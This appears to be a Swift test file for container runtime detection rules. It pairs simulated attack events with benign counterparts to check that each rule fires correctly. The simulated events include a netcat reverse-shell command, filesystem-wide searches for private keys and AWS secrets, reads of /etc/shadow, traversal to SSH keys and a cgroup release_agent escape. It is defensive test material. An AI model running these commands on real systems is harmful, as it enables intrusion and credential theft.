import Events

extension PackCase {
    private static let second: UInt64 = 1_000_000_000

    private static func privileged(_ isPrivileged: Bool) -> EnrichedEvent {
        var container = EventKit.container()
        container.privileged = isPrivileged
        return EventKit("/usr/sbin/debugfs", "/bin/sh", arguments: ["debugfs", "/dev/sda1"], container: container).exec()
    }

    private static func interactive(_ user: String, _ lineage: [String]) -> EnrichedEvent {
        var kit = EventKit(lineage: lineage)
        kit.user = user
        return kit.exec()
    }

    private static func typed(_ path: String, _ name: String) -> EnrichedEvent {
        var file = FileDetails()
        (file.path, file.typed, file.result, file.type) = (path, name, 3, 0o100000)
        return EventKit.inside("/usr/sbin/nginx", "/sbin/init").event(.open, .file(file))
    }

    private static func named(_ name: String) -> EnrichedEvent {
        var event = EventKit.inside("/usr/bin/curl").connect("10.96.0.1", 443)
        event.remoteNames = [name]
        return event
    }

    private static func capable(_ event: EnrichedEvent, _ capabilities: UInt64) -> EnrichedEvent {
        var event = event
        event.event.capabilities = capabilities
        return event
    }

    private static let systemModule: UInt64 = 1 << 16
    private static let systemAdministrator: UInt64 = 1 << 21

    /// The rules of the public stable file that are in use.
    static let publicRules: [PackCase] = [
        PackCase("Directory traversal monitored file read") {
            [
                typed("/etc/hostname", "../../etc/hostname"), typed("/root/.ssh/id_rsa", "/var/www/../../root/.ssh/id_rsa"),
                EventKit.inside("/usr/sbin/nginx", "/sbin/init").refusedOpen("/etc/shadow", -13, typed: "../../etc/shadow"),
            ]
        } twins: {
            [
                typed("/etc/hostname", "/etc/hostname"), typed("/var/www/a", "../../var/www/a"),
                EventKit.inside("/usr/sbin/nginx", "/sbin/init").refusedOpen("/etc/shadow", -13),
            ]
        },
        PackCase("Contact K8S API Server From Container") {
            [named("kubernetes.default.svc.cluster.local")]
        } twins: {
            [named("postgres.shop.svc.cluster.local"), EventKit("/usr/bin/curl").connect("10.96.0.1", 443)]
        },
        PackCase("Packet socket created in container") {
            [EventKit.inside("/app/x").call(.packetSocket, "socket", [17, 3, 0x300], result: 4)]
        } twins: {
            [EventKit("/usr/sbin/tcpdump").call(.packetSocket, "socket", [17, 3, 0x300], result: 4), EventKit.inside("/app/x").call(.socket, "socket", [2, 1, 0], result: 4)]
        },
        PackCase("Linux Kernel Module Injection Detected") {
            [capable(EventKit.inside("/app/x").call(.module, "finit_module", [3, 0, 0]), systemModule)]
        } twins: {
            [capable(EventKit.inside("/app/x").call(.module, "finit_module", [3, 0, 0]), 0), capable(EventKit("/usr/bin/kmod").call(.module, "finit_module", [3, 0, 0]), systemModule)]
        },
        PackCase("Detect release_agent File Container Escapes") {
            [capable(EventKit.inside("/bin/sh").write("/sys/fs/cgroup/rdma/release_agent"), systemAdministrator)]
        } twins: {
            [capable(EventKit.inside("/bin/sh").write("/sys/fs/cgroup/rdma/release_agent"), 0)]
        },
        PackCase("Read sensitive file trusted after startup") {
            [EventKit("/usr/sbin/nginx", "/sbin/init").open("/etc/shadow", after: second)]
        } twins: {
            [EventKit("/usr/sbin/nginx", "/sbin/init").open("/etc/nginx/nginx.conf", after: second), EventKit("/usr/sbin/sshd", "/sbin/init").open("/etc/shadow", after: second)]
        },
        PackCase("Read sensitive file untrusted") {
            [EventKit("/usr/bin/cat", "/bin/bash").read("/etc/shadow"), EventKit("/usr/bin/cat", "/bin/bash").read("/etc/sudoers.d/x"), EventKit("/usr/bin/python3").read("/etc/pam.conf")]
        } twins: {
            [EventKit("/usr/bin/passwd", "/bin/bash").read("/etc/shadow"), EventKit("/usr/bin/cat", "/bin/bash").read("/etc/hostname"), EventKit("/usr/bin/cmp", "/usr/bin/passwd").read("/etc/shadow")]
        },
        PackCase("Run shell untrusted") {
            [EventKit.run("/bin/sh", "sh", "-c", "id", by: ["/usr/sbin/nginx"]), EventKit.run("/bin/bash", "bash", "-c", "id", by: ["/usr/bin/python3", "/usr/sbin/mysqld"])]
        } twins: {
            [EventKit.run("/bin/sh", "sh", "-c", "id", by: ["/usr/bin/bash"]), EventKit.run("/bin/sh", "sh", "-c", "/usr/local/bin/aws s3 cp a b", by: ["/usr/sbin/nginx"])]
        },
        PackCase("System user interactive") {
            [interactive("www-data", ["/usr/bin/id", "/bin/sh", "/usr/sbin/sshd"])]
        } twins: {
            [interactive("root", ["/usr/bin/id", "/bin/sh", "/usr/sbin/sshd"]), interactive("www-data", ["/usr/bin/id", "/usr/bin/python3"])]
        },
        PackCase("Terminal shell in container") {
            [EventKit.run("/bin/bash", by: ["/usr/bin/runc"], inside: true) { $0.ttyNumber = 34816 }]
        } twins: {
            [EventKit.run("/bin/bash", by: ["/usr/bin/runc"], inside: true), EventKit.run("/bin/bash", by: ["/usr/bin/login"]) { $0.ttyNumber = 34816 }]
        },
        PackCase("Netcat Remote Code Execution in Container") {
            [EventKit.run("/bin/nc", "nc", "10.1.1.1", "4444", "-e", "/bin/sh", inside: true), EventKit.run("/usr/bin/ncat", "ncat", "--exec", "/bin/sh", "x", inside: true)]
        } twins: {
            [EventKit.run("/bin/nc", "nc", "-z", "127.0.0.1", "9", inside: true), EventKit.run("/bin/nc", "nc", "x", "4444", "-e", "/bin/sh")]
        },
        PackCase("Search Private Keys or Passwords") {
            [EventKit.run("/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE", "/"), EventKit.run("/usr/bin/find", "find", "/", "-name", "id_rsa")]
        } twins: {
            [EventKit.run("/bin/grep", "grep", "-r", "error", "/var/log"), EventKit.run("/usr/bin/find", "find", "/tmp")]
        },
        PackCase("Clear Log Activities") {
            [EventKit("/bin/sh").write("/var/log/syslog")]
        } twins: {
            [EventKit("/bin/sh").open("/var/log/syslog", flags: 0o2101), EventKit("/bin/sh").write("/srv/app/out.txt")]
        },
        PackCase("Remove Bulk Data from Disk") {
            [EventKit.run("/usr/bin/shred", "shred", "-u", "/tmp/x")]
        } twins: {
            [EventKit.run("/bin/rm", "rm", "/tmp/x")]
        },
        PackCase("Create Symlink Over Sensitive Files") {
            [EventKit("/bin/ln").change(.symlink, "/etc/shadow", to: "/tmp/x"), EventKit("/bin/ln").change(.symlink, "/root", to: "/tmp/x")]
        } twins: {
            [EventKit("/bin/ln").change(.symlink, "/etc/hostname", to: "/tmp/x")]
        },
        PackCase("Create Hardlink Over Sensitive Files") {
            [EventKit("/bin/ln").change(.link, "/etc/shadow", to: "/tmp/x")]
        } twins: {
            [EventKit("/bin/ln").change(.link, "/etc/hostname", to: "/tmp/x")]
        },
        PackCase("Redirect STDOUT/STDIN to Network Connection in Container") {
            [EventKit.inside("/usr/bin/python3").call(.dup, "dup2", [3, 0, 0, 2], result: 0)]
        } twins: {
            [EventKit.inside("/usr/bin/node").call(.dup, "dup2", [3, 0, 0, 1], result: 0), EventKit("/usr/bin/python3").call(.dup, "dup2", [3, 0, 0, 2], result: 0)]
        },
        PackCase("Debugfs Launched in Privileged Container") {
            [privileged(true)]
        } twins: {
            [privileged(false)]
        },
        PackCase("PTRACE attached to process") {
            [EventKit("/opt/x").call(.ptrace, "ptrace", [16, 77]), EventKit("/opt/x").call(.ptrace, "ptrace", [5, 77])]
        } twins: {
            [EventKit("/opt/x").call(.ptrace, "ptrace", [7, 77])]
        },
        PackCase("PTRACE anti-debug attempt") {
            [EventKit("/opt/x").call(.ptrace, "ptrace", [0, 0])]
        } twins: {
            [EventKit("/opt/x").call(.ptrace, "ptrace", [17, 77])]
        },
        PackCase("Find AWS Credentials") {
            [EventKit.run("/bin/grep", "grep", "-ri", "AWS_SECRET_ACCESS_KEY", "/"), EventKit.run("/usr/bin/find", "find", "/", "-path", ".aws/credentials")]
        } twins: {
            [EventKit.run("/bin/grep", "grep", "-r", "region", "/etc"), EventKit.run("/usr/bin/find", "find", "/", "-name", "x")]
        },
        PackCase("Execution from /dev/shm") {
            [EventKit.run("/dev/shm/x", "/dev/shm/x"), EventKit.run("/bin/sh", "sh", "-c", "/dev/shm/x")]
        } twins: {
            [EventKit.run("/usr/bin/x", "/usr/bin/x"), EventKit.run("/bin/sh", "sh", "-c", "ls /dev/shm")]
        },
        PackCase("Drop and execute new binary in container") {
            [EventKit.run("/usr/bin/x", inside: true) { $0.isUpperLayer = true }]
        } twins: {
            [EventKit.run("/usr/bin/x", inside: true), EventKit.run("/usr/bin/x") { $0.isUpperLayer = true }]
        },
        PackCase("Disallowed SSH Connection Non Standard Port") {
            [EventKit("/usr/bin/ssh", arguments: ["ssh", "x"]).connect("203.0.113.9", 443)]
        } twins: {
            [EventKit("/usr/bin/ssh", arguments: ["ssh", "x"]).connect("203.0.113.9", 22), EventKit("/usr/bin/ssh", arguments: ["ssh", "x"]).connect("10.1.1.1", 443)]
        },
        PackCase("Fileless execution via memfd_create") {
            [
                EventKit.run("/x/implant", by: ["/opt/attack/process"]) {
                    $0.isMemfd = true
                    $0.path = "memfd:implant"
                }
            ]
        } twins: {
            [EventKit.run("/usr/bin/runc", "runc", "init") { $0.isMemfd = true }, EventKit.run("/usr/bin/date")]
        },
    ]
}
